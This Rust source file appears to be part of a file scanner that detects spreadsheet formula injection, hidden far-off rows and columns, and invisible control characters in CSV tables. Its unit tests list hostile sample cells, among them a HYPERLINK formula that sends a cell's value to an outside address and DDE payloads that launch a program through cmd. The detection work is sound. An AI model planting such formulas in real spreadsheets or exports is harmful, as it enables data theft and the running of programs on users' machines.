//! CSV and tables with tabs: cells that a spreadsheet program would run, and what stands where nobody looks.

use container::charset;

use crate::dangers::{CannotCheck, Code, Finding, Place};

/// Empty rows after which nobody looks for more.
pub(crate) const FAR_ROWS: u64 = 40;
/// Empty columns after which nobody looks for more.
pub(crate) const FAR_COLUMNS: usize = 16;
/// Spaces in a cell that push what follows out of sight.
pub(crate) const FAR_SPACES: usize = 80;

/// Looks at a table of text.
pub(crate) fn look(bytes: &[u8], finding: &mut Finding<'_>) -> Result<(), CannotCheck> {
    finding.spend(bytes.len() / 16)?;
    let decoded = charset::decode(bytes, None);
    let text = decoded.text.trim_start_matches('\u{feff}');
    control(text, finding);
    let separator = separator(text);
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .delimiter(separator)
        .from_reader(text.as_bytes());
    // The first filled line, to know how long the table was when a gap came.
    let mut last_line: Option<u64> = None;
    let mut columns: Vec<Column> = Vec::new();
    let mut far: Option<(u64, u64, u64, String)> = None;
    let mut record = csv::StringRecord::new();
    loop {
        match reader.read_record(&mut record) {
            Ok(true) => {}
            Ok(false) => break,
            Err(_) => return Err(CannotCheck::malformed("CSV table")),
        }
        finding.spend(record.len())?;
        // The reader passes over empty lines, so rows are counted by where they end. A cell may go over several lines.
        let ends = reader.position().line().saturating_sub(1);
        let lines = record.iter().map(|c| c.matches('\n').count() as u64).sum::<u64>();
        let line = ends.saturating_sub(lines).max(1);
        let mut filled = false;
        for (n, cell) in record.iter().enumerate() {
            if cell.trim().is_empty() {
                continue;
            }
            filled = true;
            if columns.len() <= n {
                if n > 100_000 {
                    return Err(CannotCheck::bomb("it has more than 100,000 columns"));
                }
                columns.resize_with(n + 1, Column::default);
            }
            let column = &mut columns[n];
            if column.filled == 0 {
                (column.line, column.first) = (line, cell.chars().take(160).collect());
            }
            column.filled += 1;
            inside(cell, line, n, finding);
        }
        if !filled {
            continue;
        }
        let words = || record.iter().filter(|c| !c.trim().is_empty()).collect::<Vec<_>>().join(", ");
        match (&mut far, last_line) {
            (Some((_, _, rows, _)), _) => *rows += 1,
            (None, Some(last)) if line.saturating_sub(last) > FAR_ROWS => {
                far = Some((last, line, 1, words()));
            }
            _ => {}
        }
        last_line = Some(ends);
    }
    if let Some((last, line, rows, sample)) = far {
        let place = Place::part("rows").described(format!(
            "from line {line} on, {} empty lines below the table",
            line.saturating_sub(last + 1)
        ));
        finding.danger(Code::CsvFarRows, place, format!("{rows} rows"), &sample);
    }
    far_columns(&columns, finding);
    Ok(())
}

#[derive(Default)]
struct Column {
    filled: usize,
    line: u64,
    first: String,
}

fn far_columns(columns: &[Column], finding: &mut Finding<'_>) {
    let mut empty = 0;
    let mut any = false;
    for (n, column) in columns.iter().enumerate() {
        if column.filled == 0 {
            empty += 1;
            continue;
        }
        if any && empty >= FAR_COLUMNS {
            let cells: usize = columns[n..].iter().map(|c| c.filled).sum();
            let place = Place::part("columns").described(format!(
                "line {}, column {}, {empty} empty columns to the right of the table",
                column.line,
                n + 1
            ));
            finding.danger(Code::CsvFarColumns, place, format!("{cells} cells"), &column.first);
            return;
        }
        (any, empty) = (true, 0);
    }
}

/// What a cell does beside what it shows.
fn inside(cell: &str, line: u64, column: usize, finding: &mut Finding<'_>) {
    let place = || Place::part("cells").described(format!("line {line}, column {}", column + 1));
    if runs_as_formula(cell) {
        finding.danger(
            Code::CsvFormulaInjection,
            place(),
            "begins with a sign that spreadsheet programs run",
            cell,
        );
    }
    let (mut spaces, mut lines) = (0, 0);
    let mut words = false;
    for (n, c) in cell.char_indices() {
        if !c.is_whitespace() {
            if words && lines > 12 {
                finding.danger(
                    Code::CsvFarRows,
                    place(),
                    format!("after {lines} empty lines inside one cell"),
                    &cell[n..],
                );
                return;
            }
            if spaces >= FAR_SPACES {
                finding.danger(
                    Code::CsvFarColumns,
                    place(),
                    format!("after {spaces} spaces inside one cell"),
                    &cell[n..],
                );
                return;
            }
            (words, spaces, lines) = (true, 0, 0);
        } else if c == '\n' {
            (lines, spaces) = (lines + 1, 0);
        } else {
            spaces += 1;
        }
    }
}

/// Bytes that no program shows, or that turn what it shows.
pub(crate) fn control(text: &str, finding: &mut Finding<'_>) {
    let (mut count, mut line, mut first) = (0_usize, 1_usize, None);
    for (n, c) in text.char_indices() {
        if c == '\n' {
            line += 1;
        }
        let hidden = is_control(c);
        // A form feed ends nothing; a mark at the very end of a file is how DOS ended texts.
        if hidden && !(c == '\u{1a}' && text[n + 1..].trim().is_empty()) {
            count += 1;
            first.get_or_insert((line, n, c));
        }
    }
    if let Some((line, n, c)) = first {
        let place = Place::part("bytes").described(format!("line {line}"));
        let rest: String = text[n + c.len_utf8()..].chars().take(160).collect();
        let detail = format!("{count} bytes that no program shows, first U+{:04X}", u32::from(c));
        finding.danger(Code::CsvControlBytes, place, detail, &rest);
    }
}

/// Whether no program shows it, or it turns what it shows.
pub(crate) fn is_control(c: char) -> bool {
    (c.is_control() && !matches!(c, '\n' | '\r' | '\t' | '\u{85}' | '\u{c}'))
        || matches!(c, '\u{200B}' | '\u{2060}'..='\u{2069}' | '\u{202A}'..='\u{202E}' | '\u{E0000}'..='\u{E007F}' | '\u{FFF9}'..='\u{FFFB}')
}

/// The separator that the first lines agree on.
pub(crate) fn separator(text: &str) -> u8 {
    let lines = first_rows(text);
    let count = |s: char| lines.iter().map(|l| outside_quotes(l, s)).collect::<Vec<_>>();
    let score = |s: &char| {
        let counts = count(*s);
        let least = counts.iter().min().copied().unwrap_or(0);
        let same = counts.windows(2).all(|w| w[0] == w[1]);
        (least > 0, same, counts.iter().sum::<usize>())
    };
    // `max_by_key` takes the last of equals.
    let best = ['|', ';', '\t', ','].into_iter().max_by_key(score).unwrap_or(',');
    u8::try_from(best).unwrap_or(b',')
}

/// The first rows; a cell in quotation marks may go over several lines.
fn first_rows(text: &str) -> Vec<&str> {
    const ROWS: usize = 5;
    const LONGEST: usize = 64 * 1024;
    let (mut rows, mut from, mut quoted) = (Vec::new(), 0, false);
    for (at, byte) in text.bytes().enumerate().take(LONGEST) {
        quoted ^= byte == b'"';
        if byte == b'\n' && !quoted {
            rows.extend(text.get(from..at).filter(|row| !row.trim().is_empty()));
            from = at + 1;
        }
        if rows.len() == ROWS {
            return rows;
        }
    }
    // A quotation mark that is never closed is a sign like any other.
    match quoted {
        true => text.lines().filter(|l| !l.trim().is_empty()).take(ROWS).collect(),
        false => {
            rows.extend(text.get(from..).filter(|row| !row.trim().is_empty()));
            rows
        }
    }
}

fn outside_quotes(line: &str, separator: char) -> usize {
    let mut quoted = false;
    line.chars()
        .filter(|c| {
            quoted ^= *c == '"';
            !quoted && *c == separator
        })
        .count()
}

/// Whether a spreadsheet program would run a cell of this text as a formula. Numbers, dates and telephone numbers are none.
pub(crate) fn runs_as_formula(cell: &str) -> bool {
    let led = cell.starts_with(['\t', '\r', '\n']);
    let text = cell.trim_matches(|c: char| c.is_whitespace() || c == '\u{feff}' || c == '"');
    let Some(first) = text.chars().next() else { return false };
    let rest = text[first.len_utf8()..].trim_start();
    let works = |t: &str| t.contains(['(', '!', '|']) || t.contains("cmd");
    match first {
        '=' | '＝' => !rest.is_empty() && !rest.chars().all(|c| matches!(c, '=' | '-' | '>' | ' ')),
        '@' | '＠' => works(rest),
        '+' | '-' | '＋' | '－' => {
            let number = rest.trim_start_matches(['£', '€', '$', '(', '-']);
            let plain = number.starts_with(|c: char| c.is_ascii_digit() || c == '.')
                && number.chars().all(|c| c.is_ascii_digit() || ",.%eE-: /()".contains(c))
                && !works(number.trim_start_matches('('));
            let phone = first == '+' && number.chars().all(|c| c.is_ascii_digit() || " ()-.".contains(c));
            // "-B2+C3", "+A1*2": cells reckoned with.
            let reckons = rest.split(['+', '-', '*', '/', '^', '&', ':', ',']).count() > 1
                && rest.split(|c: char| !c.is_ascii_alphanumeric()).any(is_cell);
            !plain && !phone && (works(rest) || reckons || is_cell(rest))
        }
        _ => led && (works(text) && text.starts_with(['=', '+', '-', '@'])),
    }
}

/// "B2", "AA10".
fn is_cell(text: &str) -> bool {
    let letters = text.bytes().take_while(u8::is_ascii_uppercase).count();
    let digits = &text[letters..];
    (1..=3).contains(&letters)
        && (1..=7).contains(&digits.len())
        && digits.bytes().all(|b| b.is_ascii_digit())
}

#[cfg(test)]
mod tests {
    use super::runs_as_formula;

    #[test]
    fn formulas_are_told_from_numbers_and_words() {
        for (cell, runs, origin) in [
            ("=HYPERLINK(\"http://10.0.0.9/?d=\"&B2,\"details\")", true, "sends a cell away"),
            ("=1+1", true, "a sum"),
            ("@SUM(1+1)*cmd|' /C calc'!A0", true, "Lotus's way, with a program to start"),
            ("+cmd|' /C calc'!A0", true, "a program to start"),
            ("-2+3+cmd|' /C calc'!A0", true, "a number first"),
            ("\t=IMPORTXML(A1)", true, "a tab first"),
            ("-B2+C3", true, "reckons with cells"),
            ("-5.00", false, "a negative number"),
            ("-£1,234.50", false, "a negative amount"),
            ("-(106.50)", false, "the accountants' way"),
            ("+44 7700 900123", false, "a telephone number"),
            ("+44 (0)20 7946 0018", false, "a telephone number"),
            ("-", false, "nothing"),
            ("- none recorded", false, "words after a dash"),
            ("@NorthmoorCouncil", false, "an account, which runs nothing"),
            ("==========", false, "a line"),
            ("-12/03/2025", false, "a date"),
            ("-10 to -5", false, "a range in words"),
        ] {
            assert_eq!(runs_as_formula(cell), runs, "{cell}: {origin}");
        }
    }
}
